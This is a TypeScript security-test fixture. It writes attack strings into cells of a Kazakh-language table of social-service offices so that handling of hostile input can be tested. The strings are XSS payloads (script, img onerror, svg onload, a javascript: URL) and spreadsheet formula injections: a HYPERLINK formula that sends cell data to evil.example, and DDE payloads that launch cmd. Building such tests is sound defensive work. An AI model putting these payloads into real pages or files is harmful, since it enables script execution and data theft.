/**
 * A hostile act for the security test: 004's text (one standard, one table of 19 offices in a known
 * layout) with attack strings written into cells of its first rows, as a damaged or malicious source
 * could carry them. Built from the committed source at test time, so the source itself is never edited.
 */
export const hostileStrings = {
  script: '</script><script>window.__pwned=1</script>',
  image: '<img src=x onerror="window.__pwned=2">',
  svg: '"><svg/onload=window.__pwned=3>',
  javascriptUrl: 'javascript:window.__pwned=4',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"ашу")',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
} as const;

/** Each replacement must hit exactly once: the test fails loudly if 004's text ever changes. */
const edits: readonly [string, string][] = [
  ['1 "Ақкөл ауданының ', `1 "Ақкөл ауданының ${hostileStrings.script} ${hostileStrings.image} `],
  ['Нyрмағамбетов көшесі, 81', `Нyрмағамбетов көшесі, 81 ${hostileStrings.svg}`],
  ['Sobes_akkol@gcvp.kz,\nwww.akmol.kz', `Sobes_akkol@gcvp.kz,\n${hostileStrings.javascriptUrl}`],
  ['2 "Аршалы ауданының ', `2 "${hostileStrings.formula} Аршалы ауданының `],
  ['4 "Атбасар ауданының ', `4 "${hostileStrings.at} Атбасар ауданының `],
  ['Ақкөл  ауданы,  \nАқкөл  қаласы,', `${hostileStrings.minus} Ақкөл  ауданы,  \nАқкөл  қаласы,`],
];

export function hostileSource(text: string): string {
  let out = text;
  for (const [from, to] of edits) {
    const at = out.indexOf(from);
    if (at < 0 || out.indexOf(from, at + 1) >= 0) throw new Error(`hostile edit does not hit once: «${from}»`);
    out = out.slice(0, at) + to + out.slice(at + from.length);
  }
  return out;
}
